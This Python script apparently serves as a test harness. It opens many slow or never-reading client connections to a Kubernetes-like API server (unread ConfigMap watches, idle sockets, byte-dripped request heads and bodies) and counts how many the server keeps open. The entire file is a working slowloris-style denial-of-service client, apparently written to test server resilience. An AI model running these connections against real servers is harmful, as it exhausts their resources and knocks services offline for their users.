"""Clients that mean no good, in a process of their own: connections that are held, each kind in its own way.

    python attackers.py KIND COUNT HOST PORT [CA CERT]

Prints `ready` once all are connected; then, for each line of its input, how many are still open. KIND:
watchers: a watch of all ConfigMaps that is never read. idle: a connection that says nothing.
heads, bodies: one byte of a request's head, or of its body, every half second.
"""

import asyncio
import socket
import ssl
import sys

AT_A_TIME = 20  # handshakes; the server must not need mercy, the machine does
DRIP_S = 0.5
WATCH = b"GET /api/v1/configmaps?watch=1&resourceVersion=%s HTTP/1.1\r\nHost: x\r\n\r\n" % b"0"
BODY_HEAD = b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n"
LARGE = 1 << 20
ESTABLISHED = 1  # tcp_info.tcpi_state


class Attacker(asyncio.Protocol):
    """One connection. Never reads when it is a watcher; drips what its kind drips."""

    every: list["Attacker"] = []

    def __init__(self, kind: str) -> None:
        self.kind = kind

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        assert isinstance(transport, asyncio.Transport)
        self.transport = transport
        Attacker.every.append(self)
        match self.kind:
            case "watchers":
                transport.write(WATCH)
                transport.pause_reading()
            case "heads":
                self.drip(b"G")
            case "bodies":
                transport.write(BODY_HEAD % LARGE)
                self.drip(b"{")

    def drip(self, byte: bytes) -> None:
        if not self.transport.is_closing():
            self.transport.write(byte)
            asyncio.get_running_loop().call_later(DRIP_S, self.drip, b"A" if self.kind == "heads" else b" ")

    def is_open(self) -> bool:
        """By the kernel: who does not read is not told that the other side has hung up."""
        plain = self.transport.get_extra_info("socket")
        if self.transport.is_closing() or plain.fileno() < 0:
            return False
        state: int = plain.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        return state == ESTABLISHED


async def main(kind: str, count: int, host: str, port: int, *files: str) -> None:
    loop = asyncio.get_running_loop()
    context = None
    if files:
        context = ssl.create_default_context(cafile=files[0])
        context.check_hostname = False
        context.load_cert_chain(files[1])
    turn = asyncio.Semaphore(AT_A_TIME)

    async def attack() -> None:
        async with turn:
            plain = socket.socket()
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            plain.setblocking(False)
            await loop.sock_connect(plain, (host, port))
            await loop.create_connection(lambda: Attacker(kind), sock=plain, ssl=context, server_hostname="x" if context else None)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(count):
            tasks.create_task(attack())
    print("ready", flush=True)
    while await loop.run_in_executor(None, sys.stdin.readline):
        print(sum(attacker.is_open() for attacker in Attacker.every), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), *sys.argv[5:]))
